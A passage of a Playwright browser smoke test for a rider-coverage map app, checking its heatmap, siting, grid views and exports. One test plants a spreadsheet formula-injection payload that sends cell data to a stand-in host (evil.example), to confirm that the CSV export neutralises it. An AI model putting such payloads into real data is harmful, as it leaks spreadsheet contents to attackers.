// Browser smoke test of the map against a running server (hexcover serve, or test/devserver.mjs).
//
//   BASE_URL=http://127.0.0.1:8080 node test/smoke.mjs        (npm test)
//
// Env:
//   BASE_URL                default http://127.0.0.1:8080
//   CHROMIUM                default /usr/bin/chromium (Debian's; no browser is downloaded)
//   SCREENSHOT_DIR          default web/test/out (heatmap.png, siting.png, grids.png, map-en.png, tablet.png)
//   SMOKE_EXPECT_FEATURES   1 (default): tiles must render areas, grids and sites; 0: skip those asserts
//   SMOKE_TIMEOUT_MS        overall limit, default 85000
//
// The server must run with HEXCOVER_DEMO_LOGIN=on: the test logs in through the login dialog's
// demo buttons (admin, planner, leader, grid manager). The /api/me 401 before login is expected.
//
// Fails on console errors, page errors and failed same-origin requests (HTTP >= 400 or network
// failure; 204 tiles are fine). The last line is "N passed, N failed".
import { chromium } from 'playwright-core';
import { mkdtempSync, mkdirSync, readFileSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { messages } from '../src/i18n.js';
import { CSP } from './csp.mjs';

const BASE_URL = (process.env.BASE_URL || 'http://127.0.0.1:8080').replace(/\/+$/, '');
const ORIGIN = new URL(BASE_URL).origin;
const EXPECT_FEATURES = process.env.SMOKE_EXPECT_FEATURES !== '0';
const SHOT_DIR = resolve(process.env.SCREENSHOT_DIR || fileURLToPath(new URL('./out/', import.meta.url)));
const TOTAL_MS = Number(process.env.SMOKE_TIMEOUT_MS || 85000);
const READY_MS = 120000;
const LAUNCH_ARGS = [
  '--headless',
  '--no-sandbox',
  '--disable-gpu',
  '--disable-background-networking',
  '--disable-component-update',
  '--disable-sync',
  '--no-first-run',
  '--disable-quic',
];

// Layers the feature asserts query (ids from src/mapstyle.js).
const LAYER = { grids: 'grids-fill', sites: 'sites-circle', district: 'areas-district-fill', streets: 'basemap-major' };

const results = [];
let context;
let userDataDir;

function log(...a) {
  console.log(...a);
}

async function test(name, fn, { skip = false } = {}) {
  if (skip) {
    results.push({ name, status: 'skip' });
    log(`SKIP ${name}`);
    return;
  }
  const t0 = Date.now();
  try {
    await fn();
    results.push({ name, status: 'pass' });
    log(`PASS ${name} (${Date.now() - t0} ms)`);
  } catch (err) {
    results.push({ name, status: 'fail', err });
    log(`FAIL ${name}: ${err && err.message ? err.message : err}`);
  }
}

function assert(cond, msg) {
  if (!cond) throw new Error(msg);
}

/** Records console errors, page errors and failed same-origin requests of a page. */
function watch(page) {
  const problems = [];
  page.on('console', (m) => {
    // The one expected failure: GET /api/me answers 401 before the login.
    if (m.type() === 'error' && /status of 401/.test(m.text()) && /\/api\/me$/.test(m.location()?.url || '')) return;
    if (m.type() === 'error' && /status of 503/.test(m.text()) && /\/tiles\//.test(m.location()?.url || '')) return;
    if (m.type() === 'error') problems.push(`console error: ${m.text()} ${m.location()?.url || ''}`.trim());
  });
  page.on('pageerror', (e) => problems.push(`page error: ${e.message}`));
  page.on('requestfailed', (r) => {
    // Requests the map cancels on purpose (tiles no longer in view, navigation) are not failures.
    if (/ERR_ABORTED/.test(r.failure()?.errorText || '')) return;
    if (sameOrigin(r.url())) problems.push(`request failed: ${r.method()} ${r.url()} ${r.failure()?.errorText || ''}`);
  });
  page.on('response', (r) => {
    if (r.status() === 401 && new URL(r.url()).pathname === '/api/me') return;
    // 503 on a tile = the server shedding load; the map retries it (hexcover:// loader in main.js).
    if (r.status() === 503 && /\/tiles\//.test(r.url())) return;
    if (sameOrigin(r.url()) && r.status() >= 400) problems.push(`HTTP ${r.status()}: ${r.request().method()} ${r.url()}`);
  });
  return problems;
}

function sameOrigin(u) {
  try {
    return new URL(u).origin === ORIGIN;
  } catch {
    return false;
  }
}

/** Waits for window.hexcover.ready (the map's first idle after login). */
async function waitReady(page) {
  await page.waitForFunction(() => window.hexcover && window.hexcover.ready, null, { timeout: 120000 });
  await page.evaluate(
    (ms) =>
      Promise.race([
        window.hexcover.ready.then(() => true),
        new Promise((_, rej) => setTimeout(() => rej(new Error(`window.hexcover.ready did not resolve within ${ms} ms`)), ms)),
      ]),
    READY_MS,
  );
}

/** Opens path; when the login dialog shows, logs in with the demo button of role. */
async function openAs(page, role, path = '/') {
  const resp = await page.goto(BASE_URL + path, { waitUntil: 'domcontentloaded', timeout: 15000 });
  assert(resp && resp.ok(), `GET ${path}: HTTP ${resp && resp.status()}`);
  const btn = page.locator(`#demo-login-buttons [data-demo-role="${role}"]`);
  const which = await Promise.race([
    btn.waitFor({ state: 'visible', timeout: 45000 }).then(() => 'login'),
    page.waitForFunction(() => window.hexcover && window.hexcover.me, null, { timeout: 45000 }).then(() => 'in'),
  ]);
  if (which === 'login') await btn.click();
  await waitReady(page);
}

/** Logs out (header button) and back in as another role. */
async function switchRole(page, role, path) {
  await page.click('#logout');
  await page.locator(`#demo-login-buttons [data-demo-role="${role}"]`).waitFor({ state: 'visible', timeout: 15000 });
  if (path) await page.goto(BASE_URL + path, { waitUntil: 'domcontentloaded' });
  await page.click(`#demo-login-buttons [data-demo-role="${role}"]`);
  await waitReady(page);
}

function rendered(page, layer) {
  return page.evaluate((id) => {
    const { map } = window.hexcover;
    if (!map.getLayer(id)) return -1;
    return map.queryRenderedFeatures({ layers: [id] }).length;
  }, layer);
}

const headerText = (page) => page.locator('#header h1').innerText();
const idle = (page) =>
  page.evaluate(
    () =>
      new Promise((r) => {
        const { map } = window.hexcover;
        if (map.loaded() && map.areTilesLoaded()) return r();
        map.once('idle', r);
        setTimeout(r, 20000); // never hang the run on a missed event
      }),
  );

/**
 * A page point over a feature of layer (and not near a site, nor under the panels or a popup), or
 * null. prop/value: the feature's property must equal value.
 */
function findPoint(page, layer, { prop, value, not, avoid = ['sites-circle'] } = {}) {
  return page.evaluate(
    ({ layer, prop, value, not, avoid }) => {
      const { map } = window.hexcover;
      const c = map.getCanvas();
      const r = c.getBoundingClientRect();
      const av = avoid.filter((l) => map.getLayer(l));
      for (let y = 60; y < r.height - 40; y += 16) {
        for (let x = 60; x < r.width - 40; x += 16) {
          const f = map.queryRenderedFeatures([x, y], { layers: [layer] })[0];
          if (!f || (prop && String(f.properties[prop]) !== String(value))) continue;
          if (not && Object.entries(not).some(([k, v]) => String(f.properties[k]) === String(v))) continue;
          if (av.length && map.queryRenderedFeatures([[x - 10, y - 10], [x + 10, y + 10]], { layers: av }).length) continue;
          if (document.elementFromPoint(r.left + x, r.top + y) !== c) continue;
          return { x: r.left + x, y: r.top + y, props: f.properties };
        }
      }
      return null;
    },
    { layer, prop, value, not: not || null, avoid },
  );
}

/** Popup text must not show internal ids (H3 cells, 15+ digit zone numbers). */
function assertNoRawIds(txt) {
  assert(!/\d{12,}/.test(txt) && !/\b8[0-9a-f]{14}\b/.test(txt), `popup shows an internal id: ${txt}`);
}

async function closePopups(page) {
  await page.evaluate(() => document.querySelectorAll('.maplibregl-popup-close-button').forEach((b) => b.click()));
}

// ---------- truth (issue 13: figures people can trust) ----------

/** Leader at the heatmap: the headline's riders are the API's distinct count, rider-hours also per day. */
async function truthHeatmapChecks(page) {
  // The page's own answer for the whole week with the riders measure.
  if ((await page.inputValue('#metric')) !== 'riders') await page.selectOption('#metric', 'riders');
  const resp = page.waitForResponse((r) => r.url().includes('/api/summary?') && r.url().includes('metric=riders') && !r.url().includes('level=district'), { timeout: 20000 });
  await page.selectOption('#days', '');
  const api = await (await resp).json();
  await page.waitForFunction(() => !/加载中/.test(document.querySelector('#view-heatmap').innerText), null, { timeout: 20000 });
  if (api.metric === 'riders' && Number.isFinite(api.riders)) {
    await page.locator('#headline').waitFor({ timeout: 15000 });
    const head = await page.locator('#headline').innerText();
    const n = Number((head.match(/骑手 ([\d,]+) 人/) || [, ''])[1].replace(/,/g, ''));
    assert(n === api.riders, `headline "${head}", the API's distinct riders ${api.riders}`);
  }
  await page.selectOption('#metric', 'rider_hours');
  await page.locator('#per-day').waitFor({ timeout: 15000 });
  const perDay = await page.locator('#per-day').innerText();
  const title = await page.locator('#per-day').getAttribute('title');
  assert(/日均 [\d,.]+ 骑手·小时\/日（\d+ 天数据）/.test(perDay) && title && title.length > 10, `per-day figure "${perDay}" (${title})`);
  // A date range (both ends) reloads the summary for those days only, says so, and clears again.
  const period = await page.evaluate(() => window.hexcover.meta && window.hexcover.meta.period);
  if (period) {
    const ranged = page.waitForResponse((r) => r.url().includes('/api/summary?') && r.url().includes(`from=${period.from}`) && r.url().includes(`to=${period.from}`), { timeout: 20000 });
    await page.fill('#range-from', period.from);
    await page.fill('#range-to', period.from);
    const body = await (await ranged).json();
    assert(body.days === 1 && body.released === true, `one-day range: days ${body.days}, released ${body.released}`);
    await page.locator('#range-note').waitFor({ timeout: 10000 });
    assert(new URL(page.url()).searchParams.get('from') === period.from, `URL ${page.url()}`);
    await page.click('#range-clear');
    await page.waitForFunction(() => !document.querySelector('#range-note') && !new URL(location.href).searchParams.get('from'), null, { timeout: 10000 });
  }
}

/** Grid manager with a grid open: its real outline is drawn and fitted, not a box at a fixed zoom. */
async function truthGridChecks(page, code) {
  const got = await page.evaluate(async (c) => {
    const d = await fetch(`/api/grids/${encodeURIComponent(c)}`).then((r) => r.json());
    const { map } = window.hexcover;
    const src = map.getSource('hexcover-picks');
    const data = src && (typeof src.getData === 'function' ? await src.getData() : src._data);
    const focus = data && data.features && data.features.find((f) => f.properties && f.properties.role === 'focus');
    const b = map.getBounds();
    const g = d.grid.bounds;
    return {
      type: d.grid.geometry && d.grid.geometry.type,
      drawn: focus && focus.geometry && focus.geometry.type,
      inView: b.getWest() <= g[0] && b.getEast() >= g[2] && b.getSouth() <= g[1] && b.getNorth() >= g[3],
      zoom: map.getZoom(),
    };
  }, code);
  assert(got.type === 'MultiPolygon' && got.drawn === 'MultiPolygon', `grid outline: API ${got.type}, drawn ${got.drawn}`);
  assert(got.inView, `grid ${code} not fitted in view (zoom ${got.zoom.toFixed(1)})`);
}

// ---------- gaps (issue 13: siting that explains itself) ----------

/** Planner in siting: a run that closes a site shows it as removed with its loss, and each pick names its gap zones. */
async function gapsSitingChecks(page) {
  const site = await page.evaluate(async () => {
    const g = await fetch('/api/gaps?limit=1').then((r) => r.json());
    const f = g.features && g.features[0];
    return f && f.properties.nearest_site;
  });
  assert(site && site.ext_id, 'no existing site near the top gap zone');
  const run = JSON.stringify({ k: 2, c: ['fuel_station', 'candidate'], r: [[site.ext_id, site.name, site.lng, site.lat]] });
  const respP = page.waitForResponse((r) => r.url().endsWith('/api/siting'), { timeout: 30000 });
  await page.goto(`${BASE_URL}/?view=siting&run=${encodeURIComponent(run)}`, { waitUntil: 'domcontentloaded' });
  await waitReady(page);
  const body = await (await respP).json();
  await page.locator('#removed-loss').waitFor({ timeout: 15000 });
  const rs = body.removed_sites && body.removed_sites[0];
  assert(rs && rs.id === site.ext_id && Number.isFinite(rs.loss), `removed_sites ${JSON.stringify(body.removed_sites)}`);
  const lossText = await page.locator('#removed-loss').innerText();
  assert(lossText.includes('失去覆盖') && lossText.includes('骑手·小时'), `removed line: ${lossText}`);
  const title = await page.locator(`.pick-marker.removed[data-removed="${site.ext_id}"]`).getAttribute('title', { timeout: 5000 });
  assert(title && title.includes('失去覆盖'), `removed marker title: ${title}`);
  const picks = await page.locator('#pick-list').innerText();
  if ((body.picks || []).some((p) => (p.zones || []).length)) assert(picks.includes('缺口区'), `picks name no gap zone: ${picks}`);
  assert(!/\d\.\d{3,}/.test(picks), `unrounded figures: ${picks}`);
}

async function shot(page, name) {
  const path = join(SHOT_DIR, name);
  await page.screenshot({ path });
  const kb = statSync(path).size / 1024;
  // The README's screenshots; streets of the basemap make them larger than hexagons alone.
  assert(kb < 450, `${name} is ${kb.toFixed(0)} KB (want < 450 KB)`);
}

async function main() {
  mkdirSync(SHOT_DIR, { recursive: true });
  userDataDir = mkdtempSync(join(tmpdir(), 'hexcover-smoke-'));
  context = await chromium.launchPersistentContext(userDataDir, {
    executablePath: process.env.CHROMIUM || '/usr/bin/chromium',
    headless: true,
    args: LAUNCH_ARGS,
    viewport: { width: 1366, height: 768 },
    locale: 'zh-CN',
    timeout: 20000,
    acceptDownloads: true,
  });

  // The map must run under the server's Content-Security-Policy. Until the server sends one, the
  // policy of test/csp.mjs is added to the page here; every violation is reported to the test.
  const cspViolations = [];
  let serverCSP = null;
  await context.exposeBinding('__hexcoverCSPViolation', (_src, v) => cspViolations.push(v));
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) =>
      window.__hexcoverCSPViolation(`${e.effectiveDirective} blocked ${e.blockedURI || 'inline'} at ${e.sourceFile || ''}:${e.lineNumber || ''} ${e.sample || ''}`.trim()),
    );
  });
  await context.route(
    (u) => u.origin === ORIGIN && (u.pathname === '/' || u.pathname === '/index.html'),
    async (route) => {
      const res = await route.fetch();
      const headers = res.headers();
      if (headers['content-security-policy']) serverCSP = headers['content-security-policy'];
      else headers['content-security-policy'] = CSP;
      await route.fulfill({ response: res, headers });
    },
  );

  const page = context.pages()[0] || (await context.newPage());
  const problems = watch(page);
  const tileUrls = [];
  page.on('request', (r) => {
    if (/\/tiles\/activity\//.test(r.url())) tileUrls.push(r.url());
  });

  await test('i18n: zh and en dictionaries have the same keys', () => {
    const zh = Object.keys(messages.zh).sort();
    const en = Object.keys(messages.en).sort();
    const onlyZh = zh.filter((k) => !(k in messages.en));
    const onlyEn = en.filter((k) => !(k in messages.zh));
    assert(!onlyZh.length && !onlyEn.length, `missing in en: ${onlyZh.join(',') || '-'}; missing in zh: ${onlyEn.join(',') || '-'}`);
  });

  await test('login dialog: shows demo buttons in Chinese, the token field, and 401s are handled', async () => {
    await page.goto(BASE_URL + '/', { waitUntil: 'domcontentloaded' });
    await page.locator('#login').waitFor({ state: 'visible', timeout: 15000 });
    await page.locator('#demo-login-buttons [data-demo-role="grid_manager"]').waitFor({ timeout: 5000 });
    const txt = await page.locator('#login').innerText();
    for (const s of ['演示：管理员', '演示：规划人员', '演示：区领导', '演示：网格长']) assert(txt.includes(s), `login dialog lacks "${s}": ${txt}`);
    assert(await page.locator('#login-token').isVisible(), 'no token field');
    await page.fill('#login-token', 'not-a-token');
    await page.click('#login-submit');
    await page.locator('#login-error').waitFor({ state: 'visible', timeout: 5000 });
  });
  // The bad token above answers 401 from /api/login: expected, not a problem.
  problems.length = 0;

  let loaded = false;
  await test('heatmap (leader): logs in via the demo button, the map becomes ready', async () => {
    await openAs(page, 'leader', '/');
    loaded = true;
    const info = await page.evaluate(() => ({ canvas: !!document.querySelector('.maplibregl-canvas'), meta: !!window.hexcover.meta, role: window.hexcover.me.role }));
    assert(info.canvas && info.meta, `canvas ${info.canvas} meta ${info.meta}`);
    assert(info.role === 'leader', `role ${info.role}`);
    const who = await page.locator('#whoami').innerText();
    assert(who.includes('区领导'), `header role is "${who}"`);
    const tabs = await page.locator('[data-view-tab]').evaluateAll((b) => b.map((x) => x.dataset.viewTab));
    assert(tabs.join(',') === 'heatmap,siting', `leader tabs ${tabs}`);
  });

  await test('heatmap: Chinese header, scale bar, legend in real units, no error banner', async () => {
    assert(loaded, 'page did not load');
    const h = await headerText(page);
    assert(h.includes('骑手服务站覆盖分析'), `header is "${h}"`);
    assert(await page.locator('.maplibregl-ctrl-scale').isVisible(), 'no scale bar');
    const legend = await page.locator('#panel').innerText();
    assert(legend.includes('骑手·小时'), 'legend has no rider-hours unit');
    // The dates the data holds, when the server says (GET /api/meta period).
    const period = await page.evaluate(() => window.hexcover.meta.period);
    if (period && period.from) assert((await page.locator('#period').innerText()).includes(period.from), `header lacks the data period ${period.from}`);
    assert(!(await page.locator('#error-banner').isVisible()), `error banner: ${await page.locator('#error-banner').innerText()}`);
  });

  for (const [what, layer] of Object.entries({ activity: 'activity-fill', ...LAYER })) {
    await test(`features rendered: ${what} (${layer})`, async () => {
      assert(loaded, 'page did not load');
      const n = await rendered(page, layer);
      assert(n !== -1, `style has no layer ${layer}`);
      assert(n > 0, `queryRenderedFeatures({layers:['${layer}']}) is empty`);
    }, { skip: !EXPECT_FEATURES && what !== 'activity' });
  }

  await test('heatmap: summary table per street; clicking a row zooms the map to it', async () => {
    await page.locator('#summary-table tbody tr').first().waitFor({ timeout: 10000 });
    const n = await page.locator('#summary-table tbody tr').count();
    assert(n >= 2, `summary rows: ${n}`);
    const z0 = await page.evaluate(() => window.hexcover.map.getZoom());
    await page.locator('#summary-table tbody tr').first().click();
    await page.waitForFunction((z) => Math.abs(window.hexcover.map.getZoom() - z) > 0.2, z0, { timeout: 15000 });
    await page.waitForFunction(() => !window.hexcover.map.isMoving(), null, { timeout: 10000 });
    await page.evaluate((c) => window.hexcover.map.jumpTo({ center: c.center, zoom: c.zoom }), await page.evaluate(() => window.hexcover.meta));
  });

  await test('heatmap: the hour control changes the tile requests (hours=) and the URL keeps it', async () => {
    tileUrls.length = 0;
    await page.click('#tod [data-tod="lunch"]');
    await page.waitForFunction(() => new URL(location.href).searchParams.get('tod') === 'lunch', null, { timeout: 3000 });
    await idle(page);
    assert(tileUrls.some((u) => /[?&]hours=lunch/.test(u)), `no activity tile requested with hours=lunch: ${tileUrls.slice(0, 3).join(' ')}`);
    tileUrls.length = 0;
    await page.selectOption('#days', 'weekday');
    await idle(page);
    assert(tileUrls.some((u) => /[?&]hours=11-13(%2C|,)35-37/.test(u)), `weekday lunch hours not requested: ${tileUrls.slice(0, 2).join(' ')}`);
    await page.selectOption('#metric', 'riders');
    await idle(page);
    assert((await page.locator('[data-legend=activity]').innerText()).includes('骑手数'), 'legend did not follow the metric');
    const url = new URL(page.url());
    assert(url.searchParams.get('metric') === 'riders' && url.searchParams.get('days') === 'weekday' && /#\d/.test(url.hash), `URL ${url}`);
    const n = await rendered(page, 'activity-fill');
    assert(n > 0, 'no activity drawn for weekday lunch riders');
    await shot(page, 'heatmap.png');
  });

  await test('heatmap: a shared link restores view, filters and language', async () => {
    const p2 = await context.newPage();
    const pr = watch(p2);
    await p2.goto(BASE_URL + '/?view=siting&tod=dinner&metric=riders&lang=en#13/31.25/121.40', { waitUntil: 'domcontentloaded' });
    await waitReady(p2);
    const st = await p2.evaluate(() => ({ s: { ...window.hexcover.state }, z: window.hexcover.map.getZoom(), lang: document.documentElement.lang, tab: document.querySelector('.tab.active')?.dataset.viewTab }));
    await p2.close();
    assert(st.s.tod === 'dinner' && st.s.metric === 'riders' && Math.abs(st.z - 13) < 0.01 && st.lang === 'en' && st.tab === 'siting', JSON.stringify(st));
    assert(pr.length === 0, pr.join('\n  '));
  });

  await test('heatmap: a click selects the hexagon under it (not the grid); its popup has names and units, no ids', async () => {
    await closePopups(page);
    const pt = await findPoint(page, 'activity-fill');
    assert(pt, 'no activity hexagon to click');
    await page.mouse.click(pt.x, pt.y);
    await page.locator('.maplibregl-popup').waitFor({ timeout: 15000 });
    const txt = await page.locator('.maplibregl-popup').innerText();
    assert(txt.includes('骑手活动') && txt.includes('骑手时长（骑手·小时）') && !txt.includes('网格长'), `popup: ${txt}`);
    assertNoRawIds(txt);
    // The outline reaches the source after the click's handler: wait for it rather than look once.
    const focus = await page
      .waitForFunction(() => window.hexcover.map.querySourceFeatures('hexcover-picks').some((f) => f.properties.role === 'focus'), null, { timeout: 10000 })
      .then(() => true, () => false);
    assert(focus, 'the clicked hexagon is not outlined');
    await closePopups(page);
  });

  await test('heatmap: riders show distinct counts; a filter without data says 无数据, never 0%', async () => {
    // metric=riders from the test above: the headline is the API's distinct count, not a sum over cells.
    await page.locator('#headline').waitFor({ timeout: 15000 });
    const head = await page.locator('#headline').innerText();
    const m = head.match(/骑手 ([\d,]+) 人/);
    assert(m && Number(m[1].replace(/,/g, '')) <= 150, `headline "${head}" (the demo has 150 riders)`);
    // An empty answer (as for weekends in a Monday-only load) must read 无数据.
    await page.route('**/api/summary?*', (route) =>
      route.fulfill({ contentType: 'application/json', body: JSON.stringify({ version: 'x', level: 'street', metric: 'riders', total_demand: 0, covered_demand: 0, coverage_pct: 0, rows: [] }) }),
    );
    await page.selectOption('#days', 'weekend');
    await page.locator('#coverage-total.nodata').waitFor({ timeout: 10000 });
    const kpi = await page.locator('#view-heatmap').innerText();
    assert(kpi.includes('无数据') && !/覆盖率\s*0(\.0)?%/.test(kpi), `no-data view: ${kpi.slice(0, 200)}`);
    await page.unroute('**/api/summary?*');
    await page.selectOption('#days', 'weekday');
    await page.locator('#summary-table').waitFor({ timeout: 15000 });
  });

  await test('truth: the headline counts distinct riders as the API does; rider-hours also per average day', () => truthHeatmapChecks(page));

  await releasedMapChecks();

  await test('leader: ranked gap zones, read-only; clicking one flies there and shows its figures', async () => {
    await page.click('[data-view-tab="siting"]');
    await page.locator('#gap-list [data-gap]').first().waitFor({ timeout: 10000 });
    const mayRun = await page.evaluate(() => (window.hexcover.me.capabilities || []).includes('siting'));
    if (!mayRun) assert((await page.locator('#run-siting').count()) === 0, 'leader sees the siting controls');
    await page.locator('#gap-list [data-gap]').first().click();
    await page.locator('.maplibregl-popup').waitFor({ timeout: 15000 });
    const txt = await page.locator('.maplibregl-popup').innerText();
    assert(txt.includes('缺口区') && txt.includes('最近站点'), `gap popup: ${txt}`);
    assertNoRawIds(txt);
    assert(new URL(page.url()).searchParams.get('gap') === '1', `URL ${page.url()}`);
  });

  await test('siting view: a click on a gap cell selects its zone (rank and names, no ids), not the grid', async () => {
    await closePopups(page);
    await idle(page);
    // Released gap zones of a small demo can be single cells: zoom out
    // until one is in view clear of the sites.
    let pt = await findPoint(page, 'gaps-fill');
    for (let i = 0; !pt && i < 4; i++) {
      await page.evaluate(() => window.hexcover.map.zoomOut({ animate: false }));
      await idle(page);
      pt = await findPoint(page, 'gaps-fill');
    }
    assert(pt, 'no gap cell to click');
    await page.mouse.click(pt.x, pt.y);
    await page.locator('.maplibregl-popup').waitFor({ timeout: 15000 });
    const txt = await page.locator('.maplibregl-popup').innerText();
    assert(txt.includes('缺口区') && !txt.includes('网格长'), `popup: ${txt}`);
    assertNoRawIds(txt);
    await closePopups(page);
  });

  await test('the back button steps back through views and selections, forward again', async () => {
    const view = () => page.evaluate(() => ({ view: window.hexcover.state.view, tab: document.querySelector('.tab.active')?.dataset.viewTab }));
    await page.click('[data-view-tab="heatmap"]');
    await page.waitForFunction(() => document.querySelector('.tab.active')?.dataset.viewTab === 'heatmap', null, { timeout: 5000 });
    await page.goBack();
    await page.waitForFunction(() => document.querySelector('.tab.active')?.dataset.viewTab === 'siting', null, { timeout: 5000 });
    assert((await view()).view === 'siting', JSON.stringify(await view()));
    await page.goForward();
    await page.waitForFunction(() => document.querySelector('.tab.active')?.dataset.viewTab === 'heatmap', null, { timeout: 5000 });
    assert(new URL(page.url()).origin === ORIGIN, `left the app: ${page.url()}`);
    await page.click('[data-view-tab="siting"]');
    await page.locator('#gap-list').waitFor({ timeout: 10000 });
  });

  await test('siting (planner): k numbered markers and the coverage figures from the API', async () => {
    await switchRole(page, 'planner', '/?view=siting');
    await page.locator('#run-siting').waitFor({ timeout: 10000 });
    await page.fill('#siting-k', '4');
    await page.locator('#siting-k').dispatchEvent('change');
    const respP = page.waitForResponse((r) => r.url().endsWith('/api/siting'));
    await page.click('#run-siting');
    const body = await (await respP).json();
    await page.locator('#siting-result').waitFor({ timeout: 10000 });
    const ranks = await page.locator('.pick-marker[data-rank]').evaluateAll((els) => els.map((e) => e.textContent));
    assert(ranks.join(',') === '1,2,3,4', `markers ${ranks}`);
    const before = await page.locator('#coverage-before').innerText();
    const after = await page.locator('#coverage-after').innerText();
    assert(before.startsWith(body.before_pct.toFixed(1)) && after.startsWith(body.after_pct.toFixed(1)), `shown ${before} → ${after}, API ${body.before_pct} → ${body.after_pct}`);
    await idle(page);
    // Keep the PNG small: the siting shot shows gaps, sites and markers without the activity layer.
    await page.uncheck('#toggle-activity');
    await page.uncheck('#toggle-grids');
    await page.click('#panel-toggle');
    await idle(page);
    await shot(page, 'siting.png');
    await page.click('#panel-toggle');
    await page.check('#toggle-grids');
    await page.check('#toggle-activity');
  });

  await test('siting: the URL keeps the run, and a reload restores its results', async () => {
    assert(new URL(page.url()).searchParams.get('run'), `no run= in ${page.url()}`);
    const respP = page.waitForResponse((r) => r.url().endsWith('/api/siting'), { timeout: 60000 });
    await page.reload({ waitUntil: 'domcontentloaded' });
    await waitReady(page);
    await respP;
    await page.locator('#siting-result').waitFor({ timeout: 15000 });
    const ranks = await page.locator('.pick-marker[data-rank]').evaluateAll((els) => els.map((e) => e.textContent));
    assert(ranks.join(',') === '1,2,3,4', `markers after reload ${ranks}`);
    assert(/骑手·小时|人/.test(await page.locator('#pick-list').innerText()), 'gains have no unit');
  });

  await test('siting (gaps): a removed site is drawn as removed with its loss; picks name their gap zones', async () => {
    await gapsSitingChecks(page);
  });

  await test('siting: k above the limit and no candidate kind are stated, not silently changed', async () => {
    await page.fill('#siting-k', '250');
    await page.locator('#siting-k').dispatchEvent('change');
    const msg = await page.locator('#k-limit').innerText({ timeout: 5000 });
    assert(msg.includes('200') && msg.includes('250'), `k limit: ${msg}`);
    const kinds = await page.locator('[data-kind]').evaluateAll((els) => els.filter((e) => e.checked).map((e) => e.dataset.kind));
    for (const k of kinds) await page.uncheck(`[data-kind="${k}"]`);
    let posted = false;
    const onReq = (r) => r.url().endsWith('/api/siting') && (posted = true);
    page.on('request', onReq);
    await page.click('#run-siting');
    await page.locator('#run-msg').waitFor({ timeout: 5000 });
    page.off('request', onReq);
    assert(!posted, 'the run went to the server with no candidate kind');
    for (const k of kinds) await page.check(`[data-kind="${k}"]`);
    await page.fill('#siting-k', '4');
    await page.locator('#siting-k').dispatchEvent('change');
  });

  await test('siting: add a site by clicking the map, re-run, export CSV and GeoJSON, save and reopen a scenario', async () => {
    await page.check('#edit-mode');
    const box = await page.locator('#map').boundingBox();
    await page.mouse.click(box.x + box.width * 0.35, box.y + box.height * 0.6);
    await page.locator('#siting-edits li').first().waitFor({ timeout: 3000 });
    // A site named like a spreadsheet formula must come out of the CSV neutralized.
    const EVIL = '=HYPERLINK("http://evil.example/?x="&C2,"grid")';
    await page.route('**/api/siting', async (route) => {
      const res = await route.fetch();
      const body = await res.json();
      if (body.picks && body.picks[0]) body.picks[0].name = EVIL;
      await route.fulfill({ response: res, json: body });
    });
    const respP = page.waitForResponse((r) => r.url().endsWith('/api/siting'));
    await page.click('#run-siting');
    const req = JSON.parse((await respP).request().postData());
    assert(req.add && req.add.length === 1, `request ${JSON.stringify(req)}`);
    await page.locator('#siting-result').waitFor({ timeout: 10000 });
    await page.unroute('**/api/siting');
    const [csv] = await Promise.all([page.waitForEvent('download'), page.click('#export-csv')]);
    const [gj] = await Promise.all([page.waitForEvent('download'), page.click('#export-geojson')]);
    const csvText = readFileSync(await csv.path(), 'utf8');
    const gjObj = JSON.parse(readFileSync(await gj.path(), 'utf8'));
    assert(csvText.includes('rank,id,name') && csvText.split('\n').length >= 5, `csv: ${csvText.slice(0, 200)}`);
    const csvLines = csvText.replace(/^\ufeff/, '').trim().split(/\r?\n/);
    assert(csvLines[1].includes(`"'${EVIL.replace(/"/g, '""')}"`), `formula cell not neutralized: ${csvLines[1]}`);
    assert(!csvLines.some((l) => /^[#=+\-@]/.test(l)), 'a comment or formula row in the CSV');
    const gainCol = csvLines[0].split(',').findIndex((h) => h.startsWith('gain_'));
    assert(gainCol > 0 && csvLines.slice(1).every((l) => !/\.\d{2,}/.test(l.split(',').slice(gainCol, gainCol + 3).join(','))), `gains not rounded: ${csvLines.join(' | ')}`);
    assert(gjObj.features.length === 4, `geojson features ${gjObj.features.length}`);
    await page.fill('#scenario-name', 'smoke');
    await page.click('#save-scenario');
    await page.locator('#scenario-list').waitFor({ timeout: 5000 });
    await page.click('#open-scenario');
    await page.waitForFunction(() => /smoke/.test(document.querySelector('#view-siting').innerText) && document.querySelectorAll('.pick-marker[data-rank]').length === 4, null, { timeout: 10000 });
    // The saved scenario next to the same request on today's data.
    await page.locator('#scenario-compare').waitFor({ timeout: 10000 });
  });

  let gridCode = null;
  await test('grids (grid manager): choosing a grid lists ranked candidates with explanations', async () => {
    await switchRole(page, 'grid_manager', '/?view=grids');
    const tabs = await page.locator('[data-view-tab]').evaluateAll((b) => b.map((x) => x.dataset.viewTab));
    assert(tabs.join(',') === 'grids,heatmap', `grid manager tabs ${tabs}`);
    await page.fill('#grid-search', '310107001');
    await page.locator('#grid-results [data-grid]').first().waitFor({ timeout: 5000 });
    // Pick the first grid that has candidates.
    const codes = await page.locator('#grid-results [data-grid]').evaluateAll((els) => els.map((e) => e.dataset.grid));
    for (const c of codes.slice(0, 20)) {
      await page.click(`#grid-results [data-grid="${c}"]`);
      await page.waitForFunction((code) => {
        const d = document.querySelector('#grid-detail');
        return d && d.dataset.code === code && !/加载中/.test(d.innerText);
      }, c, { timeout: 8000 });
      if ((await page.locator('#candidate-list li').count()) > 0) {
        gridCode = c;
        break;
      }
      // A grid nobody works in says so.
      const none = await page.locator('#no-candidates').innerText();
      assert(/暂无合适人选/.test(none), `grid ${c} without candidates: ${none}`);
    }
    assert(gridCode, 'no grid with candidates among the first results');
    // A grid manager sees hours, days and the share as a band, never a score.
    const txt = await page.locator('#candidate-list').innerText();
    assert(/天/.test(txt) && /%/.test(txt) && !/得分/.test(txt), `candidates: ${txt.slice(0, 200)}`);
  });

  await test('truth: the open grid is drawn and fitted by its real outline', () => truthGridChecks(page, gridCode));

  await test('grids: the scope shows by name; a click on a grid opens it; no candidates reads 暂无合适人选', async () => {
    const who = await page.locator('#whoami').innerText();
    assert(!who.includes('street:'), `scope shown as a code: ${who}`);
    await closePopups(page);
    await idle(page);
    const current = await page.locator('#grid-detail').getAttribute('data-code');
    const found = await findPoint(page, 'grids-fill', { prop: 'street_code', value: '310107001', not: { code: current } });
    assert(found, 'no other grid of the scope to click');
